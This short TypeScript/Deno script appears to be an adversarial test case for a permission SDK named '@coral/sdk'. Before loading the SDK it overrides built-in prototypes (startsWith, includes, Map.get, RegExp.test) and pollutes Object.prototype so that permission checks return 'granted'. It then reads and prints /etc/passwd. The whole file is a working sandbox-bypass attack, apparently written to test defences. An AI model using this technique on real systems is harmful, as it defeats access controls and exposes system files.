//= wants: Coral's own code in this process to work for the attacker: traps on prototypes before the SDK is loaded
const opened: string[] = [];
const original = Reflect.apply;
Reflect.apply = (target, self, values) => {
  for (const value of values) if (typeof value === "string" && value.startsWith("/etc/")) opened.push(value);
  return original(target, self, values);
};
String.prototype.startsWith = () => true;
Array.prototype.includes = () => true;
Map.prototype.get = () => "granted";
RegExp.prototype.test = () => true;
Object.defineProperty(Object.prototype, "state", { value: "granted", configurable: true });
try {
  await import("@coral/sdk");
} catch {
  // bare there is none
}
console.log("CAPTURED", Deno.readTextFileSync("/etc/passwd").split("\n")[0]);
